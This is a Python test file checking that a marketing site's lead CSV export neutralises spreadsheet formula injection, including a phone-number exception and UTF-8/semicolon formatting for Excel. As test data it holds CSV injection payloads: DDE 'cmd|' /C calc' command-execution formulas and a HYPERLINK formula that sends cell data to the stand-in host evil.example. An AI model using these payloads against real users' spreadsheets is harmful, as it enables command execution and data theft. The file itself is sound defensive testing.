"""The lead export against spreadsheet formula injection (CSV injection), and its format.

Formulas are stored through the public lead API of the production site, then exported with the
operator command (`python -m marketing_site.ops export`) on that site's database; the console's
export is the same writer (tests/test_console_service.py, tests/test_console.py).
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import time

import httpx2
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lead_payloads import lead_payload
from servers import BIN, ROOT

from marketing_site.services.lead_export import LEAD_COLUMNS

API = "/api/v1/mail/send"
# What a visitor can type into a text field and a spreadsheet would run (issue 21's payloads
# first: a digit after the first character used to pass).
FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+HYPERLINK("https://evil.example/?"&E2,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width = (read as = by some spreadsheets)
    "\uff0b1+cmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(1+1)",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _export(site_server, tmp_path) -> bytes:
    out = tmp_path / "leads.csv"
    subprocess.run(
        [str(BIN / "python"), "-m", "marketing_site.ops", "export", "--output", str(out)],
        cwd=ROOT,
        env=site_server.env,
        check=True,
        capture_output=True,
    )
    return out.read_bytes()


def _rows(data: bytes) -> list[dict[str, str]]:
    """The file as a French Excel reads it on a double click: UTF-8 only with its BOM, `;` between cells."""
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    text = data[3:].decode("utf-8")
    assert text.split("\r\n", 1)[0].count(";") == len(LEAD_COLUMNS) - 1, "cells not separated by ;"
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_formulas_stored_through_the_public_api_reach_the_export_as_text(site_server, tmp_path):
    marker = f"x{time.time_ns()}"
    emails = []
    for i, formula in enumerate(FORMULAS):
        email = f"{marker}.{i}@example.com"
        fields = ("name", "firstname", "company")[i % 3]
        response = httpx2.post(site_server.url + API, json=lead_payload(email=email, **{fields: formula}))
        assert response.status_code == 200, (formula, response.text)
        emails.append((email, fields, formula))
    # An email address may start with a formula character too (=, + and - are allowed in its local part).
    odd_email = f"=1+1.{marker}@example.com"
    assert httpx2.post(site_server.url + API, json=lead_payload(email=odd_email)).status_code == 200

    rows = {row["email"].lstrip("'"): row for row in _rows(_export(site_server, tmp_path))}
    for email, field, formula in emails:
        row = rows[email]
        assert row[field] == "'" + formula, (field, formula)
        # Every cell of the row: text a spreadsheet shows, never a formula it runs.
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or column == "phone", (column, cell)
        assert row["phone"] == "+33 1 23 45 67 89"  # a phone number stays readable
        assert row["name"] in ("Lefèvre", "'" + formula)  # accents survive (UTF-8)
    assert rows[odd_email]["email"] == "'" + odd_email


@pytest.mark.parametrize(
    ("value", "column", "cell"),
    [
        *[(formula, "company", "'" + formula) for formula in FORMULAS],
        ("\t=1+1", "name", "'\t=1+1"),
        ("\r=1+1", "name", "'\r=1+1"),
        ("+33 6 12 34 56 78", "phone", "+33 6 12 34 56 78"),
        ("-33 6 12 34 56 78", "phone", "-33 6 12 34 56 78"),
        ("+33 6 12 34 56 78 poste 12", "phone", "+33 6 12 34 56 78 poste 12"),
        # Not a phone number by the form's rule: neutralised like any other cell.
        ("+1+cmd|' /C calc'!A0", "phone", "'+1+cmd|' /C calc'!A0"),
        ("=1+1", "phone", "'=1+1"),
        ("+33 6 12 34 56 78", "company", "'+33 6 12 34 56 78"),
        ("Banque = Alpha", "company", "Banque = Alpha"),
        (None, "flags", ""),
        (12, "id", "12"),
    ],
)
def test_every_cell_follows_the_owasp_rule(value, column, cell):
    from marketing_site.services.lead_export import csv_cell

    assert csv_cell(value, column) == cell


@pytest.mark.parametrize(
    "value",
    [
        '+33 1 23 45 67 89=HYPERLINK("https://evil.example/?"&E2,"x")',
        "+33 1 23 45 67 89+cmd|' /C calc'!A0",
        "+33 1 23 45 67 89@SUM(1+1)",
        "+33 1 23 45 67 89\n=1+1",
        "+33 1 23 45 67 89\t=1+1",
        '+33 1 23 45 67 89 poste 12"=1+1',
        "-33 6 12 34 56 78;=1+1",
        "+33 1 23 45 67 89 =1+1",
        "+33 1 23 45 67 89 & '!A0",
    ],
)
def test_a_phone_number_followed_by_a_formula_is_neutralised(value):
    """The phone exception is the whole cell matching the form's phone rule, never a prefix."""
    from marketing_site.services.lead_export import csv_cell

    assert csv_cell(value, "phone") == "'" + value


# Characters a phone number of the form's rule may hold (digits, spaces, punctuation, the words
# of an extension): nothing a spreadsheet could call or quote.
_PHONE_CELL = re.compile(r"[0-9A-Za-z\u00C0-\u024F \u00A0\u202F.\-()/+#,;:]*")
_PHONES = ["+33 1 23 45 67 89", "-33 6 12 34 56 78", "+41 22 123 45 67", "+33 6 12 34 56 78 poste 12"]


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(_PHONES),
    st.text(alphabet=st.sampled_from("=+-@\"'|!&()$*^%:;,. \t\r\nAHIKLNPRSTUVYcdlm0123456789"), min_size=1),
)
def test_a_phone_cell_left_as_it_is_holds_only_phone_characters(phone, suffix):
    from marketing_site.services.lead_export import FORMULA_STARTS, csv_cell

    cell = csv_cell(phone + suffix, "phone")
    if cell.startswith(FORMULA_STARTS):
        assert _PHONE_CELL.fullmatch(cell), cell
    else:
        assert cell == "'" + phone + suffix
